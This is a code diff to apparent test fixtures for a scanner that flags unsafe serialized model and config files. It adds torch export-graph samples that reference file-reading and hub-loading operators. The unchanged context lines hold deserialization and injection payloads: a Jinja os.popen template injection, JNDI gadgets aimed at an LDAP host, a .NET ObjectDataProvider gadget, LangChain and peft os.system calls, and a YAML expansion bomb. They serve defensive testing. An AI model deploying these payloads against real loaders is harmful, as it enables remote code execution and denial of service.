@@ -31,6 +31,7 @@ ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
 MODULES = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
 
 
+EXPORTED = b'{"graph_module": {"graph": {"nodes": [{"target": "%s", "inputs": [], "outputs": []}]}}}'
 SHEET = b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:a="%s"/>'
 MAPS = b"a: &a {x: 1}\n" + b"".join(
     b"%c: &%c {%s}\n" % (98 + level, 98 + level, b", ".join(b"k%d: *%c" % (key, 97 + level) for key in range(9)))
@@ -81,6 +82,8 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
             "made-by-jackson.json": b'{"@class": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://example.com"}',
             "made-by-a-list.json": b'["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://example.com"}]',
             "made-by-net.json": b'{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
+            "exported.json": EXPORTED % b"torch.ops.aten.from_file.default",
+            "exported-load.json": EXPORTED % b"torch.hub.load",
             "langchain.json": b'{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "id"}}',
             "peft.json": b'{"auto_mapping": {"parent_library": "os.system"}}',
         },
@@ -89,6 +92,7 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
             "namespace.yaml": b"!!python/object:argparse.Namespace\nlr: 0.1\n",
             "activation.json": b'{"in_features": 1, "activation_function": "torch.nn.modules.activation.Tanh"}',
             "spark.json": b'{"class": "org.apache.spark.ml.feature.Binarizer", "uid": "a", "sparkVersion": "4.0.0"}',
+            "exported.json": EXPORTED % b"torch.ops.aten.add.Tensor",
             "langchain.json": b'{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "Prompt"]}',
             "schema.json": b'{"@type": "sc:Dataset", "class": "java.util.HashMap"}',
             "tuple.yaml": b"x: !!python/tuple [1, 2]\n",
